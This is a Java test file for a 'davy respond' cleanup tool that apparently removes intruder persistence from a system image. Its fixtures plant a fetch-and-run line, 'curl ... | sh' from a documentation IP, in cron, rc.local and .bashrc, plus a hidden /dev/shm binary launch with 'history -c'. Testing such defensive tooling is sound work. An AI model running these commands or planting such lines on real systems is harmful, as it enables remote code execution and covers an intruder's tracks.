package davy.agent.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// `davy respond` from its plan to the files of an image: what is asked, chosen and left.
final class CarriedOutTest {
    private static final String BAD = "curl -fsSL http://198.51.100.7/z | sh\n";

    /// Runs a program at a terminal, and types an answer where it asks.
    private static final String AT_A_TERMINAL =
            """
            import os, pty, sys
            pid, fd = pty.fork()
            if pid == 0:
                os.execv(sys.argv[2], sys.argv[2:])
            out = b''
            asked = 0
            while True:
                try:
                    data = os.read(fd, 65536)
                except OSError:
                    break
                out += data
                if out.count(b'Type yes: ') > asked:
                    asked += 1
                    os.write(fd, sys.argv[1].encode() + b'\\n')
            sys.stdout.buffer.write(out)
            sys.stdout.flush()
            sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
            """;

    @TempDir private Path root;
    @TempDir private Path away;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    @BeforeEach
    void make() throws IOException {
        assumeTrue("root".equals(System.getProperty("user.name")), "needs root");
        put("etc/passwd", "root:x:0:0::/root:/bin/sh\n");
        put("etc/hostname", "web\n");
        put("etc/cron.d/jobs", "SHELL=/bin/sh\n0 1 * * * root /opt/backup\n* * * * * root " + BAD);
        put("etc/rc.local", "#!/bin/sh\n/opt/start\n" + BAD + "exit 0\n");
        put("root/.bashrc", "alias l=ls\n" + BAD);
    }

    private void put(String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    private List<String> arguments(String... more) {
        var arguments = new ArrayList<>(List.of("respond", "--root", root.toString()));
        arguments.addAll(List.of("--state", away.resolve("state").toString(), "--lang", "en"));
        arguments.addAll(List.of(more));
        return arguments;
    }

    private int respond(String... more) {
        out.reset();
        var to = new PrintStream(out, true, StandardCharsets.UTF_8);
        var arguments = arguments(more).toArray(String[]::new);
        return Main.run(arguments, new Terminal(to, to, false, false, 200));
    }

    private boolean isBad(String path) throws IOException {
        return Files.readString(root.resolve(path)).contains(BAD);
    }

    /// A check that reads such a text as one script accuses the whole file.
    @Test
    void ofATextThatOthersUseTheAccusedLinesGo() throws IOException {
        respond("--apply", "--yes");
        assertThat(out.toString(StandardCharsets.UTF_8)).contains("Remove line 3 of /etc/rc.local");
        assertThat(root.resolve("etc/cron.d/jobs"))
                .hasContent("SHELL=/bin/sh\n0 1 * * * root /opt/backup\n");
        assertThat(root.resolve("etc/rc.local")).hasContent("#!/bin/sh\n/opt/start\nexit 0\n");
        assertThat(root.resolve("root/.bashrc")).hasContent("alias l=ls\n");
    }

    /// What is left does nothing, or the same: the file is the intruder's.
    @Test
    void aTextOfNothingElseGoesAsAWhole() throws IOException {
        put("etc/rc.local", "#!/bin/sh\nset -e\n" + BAD + "exit 0\n");
        put("root/.bashrc", BAD + "nohup /dev/shm/.x >/dev/null 2>&1 & history -c\n" + BAD);
        respond("--apply", "--yes");
        assertThat(root.resolve("etc/rc.local")).doesNotExist();
        assertThat(root.resolve("root/.bashrc")).doesNotExist();
        assertThat(root.resolve("etc/cron.d/jobs")).exists();
    }

    @Test
    void onlyTheStepsThatWereChosenAreCarriedOut() throws IOException {
        String plan = away.resolve("plan.yml").toString();
        assertThat(respond("--save-plan", plan)).isEqualTo(1);
        assertThat(Files.readString(Path.of(plan))).contains("/etc/rc.local", "number: 3");
        respond("--plan", plan, "--only", "1,3", "--apply", "--yes");
        var bad = List.of(isBad("etc/cron.d/jobs"), isBad("etc/rc.local"), isBad("root/.bashrc"));
        assertThat(bad).containsExactly(false, true, false);
        assertThat(respond("--plan", plan, "--skip", "1,3", "--apply", "--yes")).isZero();
        assertThat(isBad("etc/rc.local")).isFalse();
    }

    private String typed(String answer, int exit) throws Exception {
        var command = new ArrayList<>(List.of("python3", "-c", AT_A_TERMINAL, answer));
        command.add(ProcessHandle.current().info().command().orElseThrow());
        command.addAll(List.of("--enable-native-access=ALL-UNNAMED", "-cp"));
        command.add(System.getProperty("java.class.path"));
        command.add("davy.agent.cli.Main");
        command.addAll(arguments("--apply"));
        var process = new ProcessBuilder(command).redirectErrorStream(true).start();
        var text = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(text).isEqualTo(exit);
        return text;
    }

    @Test
    void whoIsAtATerminalIsAskedOnce() throws Exception {
        assertThat(typed("no", 2)).containsOnlyOnce("Type yes: ").contains("nothing was changed");
        assertThat(isBad("etc/rc.local")).isTrue();
        assertThat(typed("yes", 0)).containsOnlyOnce("Type yes: ");
        assertThat(isBad("etc/rc.local")).isFalse();
    }

    @Test
    void whereNobodyCanBeAskedNothingIsDone() throws Exception {
        var command =
                new ArrayList<>(List.of(ProcessHandle.current().info().command().orElseThrow()));
        command.addAll(List.of("--enable-native-access=ALL-UNNAMED", "-cp"));
        command.add(System.getProperty("java.class.path"));
        command.add("davy.agent.cli.Main");
        command.addAll(arguments("--apply"));
        var process = new ProcessBuilder(command).redirectErrorStream(true).start();
        process.getOutputStream().close();
        var text = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(text).isEqualTo(2);
        assertThat(text).contains("--yes carries it out without asking");
        assertThat(isBad("etc/rc.local")).isTrue();
    }
}
